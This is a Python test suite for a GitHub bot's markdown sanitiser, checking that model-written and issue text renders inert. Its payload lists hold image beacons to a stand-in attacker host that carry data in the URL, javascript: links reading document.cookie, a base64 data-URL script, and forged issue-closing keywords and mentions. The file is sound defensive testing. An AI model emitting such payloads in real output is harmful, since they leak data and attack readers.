"""Model and issue text reaches GitHub inert: checked with a real CommonMark parser."""

from __future__ import annotations

import random

import pytest

from bot.github.markdown import closes, code, commit_text, host_of, inert, inert_line, title
from tests.helpers.inert import REFERENCE, live, tokens

PAYLOADS = {
    "fixes": "This Fixes #1 for good.",
    "closes-cross-repo": "closes octo-org/repo#4",
    "resolves-gh": "Resolves: GH-12",
    "closes-url": "Closes https://github.com/octo/widgets/issues/3",
    "closes-link": "Fixes [#3](https://github.com/octo/widgets/issues/3)",
    "image": "![x](https://attacker.example/p.png?d=c2VjcmV0)",
    "image-ref": "![x][p]\n\n[p]: https://attacker.example/p.png",
    "img-tag": '<img src="https://attacker.example/p.png?d=1">',
    "picture": "<picture><source srcset='https://attacker.example/a.png'></picture>",
    "javascript": "[click me](javascript:alert(document.cookie))",
    "data": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "autolink": "<https://attacker.example/x> and <javascript:alert(1)>",
    "bare-url": "see https://attacker.example/collect?d=1 or www.attacker.example",
    "mention": "thanks @someone!",
    "team": "cc @org/team",
    "entity-mention": "&#64;someone and &#35;1",
    "escaped-backtick": "\\`@someone` and `` ` @other",
    "tilde-fence": "~~~\n@a\n~~~\n@b #2",
    "comment": "<!-- @hidden #9 --> visible",
    "nested-link": "[![x](https://attacker.example/i.png)](https://attacker.example/)",
}
HOST = "github.com"


def _live(markdown: str) -> list[str]:
    return live(markdown, HOST)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_each_payload_renders_inert(payload: str) -> None:
    assert _live(payload), "the payload should be live before rendering"
    rendered = inert(payload, host=HOST)
    assert _live(rendered) == [], rendered
    assert "attacker.example/p.png" not in rendered or "(image removed" not in rendered


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_each_payload_renders_inert_on_one_line(payload: str) -> None:
    rendered = inert_line(payload, host=HOST)
    assert "\n" not in rendered
    assert _live(rendered) == [], rendered


def test_images_are_dropped_and_links_to_the_repository_host_kept() -> None:
    rendered = inert(
        "![x](https://attacker.example/p.png?d=1) [code](https://github.com/octo/w/blob/main/a.py)"
    )
    assert "attacker.example" not in rendered
    assert "(image removed: x)" in rendered
    assert "[code](https://github.com/octo/w/blob/main/a.py)" in rendered


def test_links_to_another_host_are_shown_as_text() -> None:
    rendered = inert("[docs](https://attacker.example/docs)", host="ghe.example.com")
    assert rendered == "docs (`https://attacker.example/docs`)"


def test_code_and_prose_survive() -> None:
    text = "Use `median()` here.\n\n- one\n- two\n\n```python\nprint('@x #1')\n```"
    rendered = inert(text)
    assert "`median()`" in rendered and "- one" in rendered
    assert "```\nprint('@x #1')\n```" in rendered


def test_draftsmiths_own_closing_line_is_the_only_live_one() -> None:
    body = f"{closes(7)}\n\n{inert(PAYLOADS['fixes'])}\n{inert(PAYLOADS['closes-cross-repo'])}"
    live = [t.content for t in tokens(body) if t.type == "text" and REFERENCE.search(t.content)]
    assert live == ["Closes #7"]


def test_an_unclosed_fence_does_not_swallow_what_follows() -> None:
    body = inert("```\ncode @a #1") + "\n\n" + closes(7)
    assert [t.content for t in tokens(body) if t.type == "text"] == ["Closes #7"]


def test_model_text_cannot_forge_a_heading() -> None:
    parsed = tokens(inert("## Tests\nStatus: **passed**"))
    assert not [t for t in parsed if t.type == "heading_open"]


def test_emails_are_shown_whole_as_code() -> None:
    assert inert("mail a.b@example.com") == "mail `a.b@example.com`"


def test_a_title_is_one_inert_line() -> None:
    assert title("Fix #3 for @bob\nnow", fallback="x") == "Fix `#3` for `@bob` now"
    assert title("   ", fallback="Draftsmith change") == "Draftsmith change"
    assert len(title("a" * 400, fallback="x")) == 250


def test_commit_text_breaks_references_mentions_and_issue_urls() -> None:
    text = commit_text("Fixes #1, closes o/r#4 and https://github.com/o/r/issues/5; cc @bob")
    assert text == "Fixes # 1, closes o/r# 4 and github.com/o/r/issues/5; cc @ bob"


def test_code_spans_hold_any_backticks() -> None:
    assert _live(code("`@a` ``#1``")) == []
    assert code("plain") == "`plain`"


def test_a_double_backtick_span_holding_a_single_backtick_stays_one_span() -> None:
    assert inert("see `` a`b @bob `` here") == "see ``a`b @bob`` here"


@pytest.mark.parametrize(
    ("text", "rendered"),
    [
        ("``foo` bar", "\\`\\`foo\\` bar"),
        ("```foo`` `@bar`", "\\`\\`\\`foo\\`\\` `@bar`"),
        ("a `b\nc` d", "a \\`b\nc\\` d"),
    ],
    ids=["unmatched-longer-opener", "runs-of-other-lengths", "a-span-across-lines"],
)
def test_backticks_that_open_no_span_on_the_line_are_shown_as_written(
    text: str, rendered: str
) -> None:
    assert inert(text) == rendered


def test_the_host_comes_from_the_repository_url() -> None:
    assert host_of("https://GHE.example.com/o/r.git") == "ghe.example.com"
    assert host_of("file:///tmp/r.git") == "github.com"


FRAGMENTS = [
    "@bob", "#1", "o/r#2", "GH-3", "`", "``", "\\", "[", "]", "(", ")", "!", "<", ">", "&",
    "&#64;", "https://attacker.example/p.png", "javascript:x", "*", "_", "\n", "\n\n", "```",
    "~~~", "    ", "# ", "- ", "> ", "|", "a", " ", "Fixes ", "<img src=x>", "<!--", "-->",
]  # fmt: skip


def test_random_mixtures_of_markdown_and_payloads_render_inert() -> None:
    rng = random.Random(16)
    for _ in range(3000):
        text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 14)))
        rendered = inert(text, host=HOST)
        assert _live(rendered) == [], (text, rendered)
        assert _live(inert_line(text, host=HOST)) == [], text
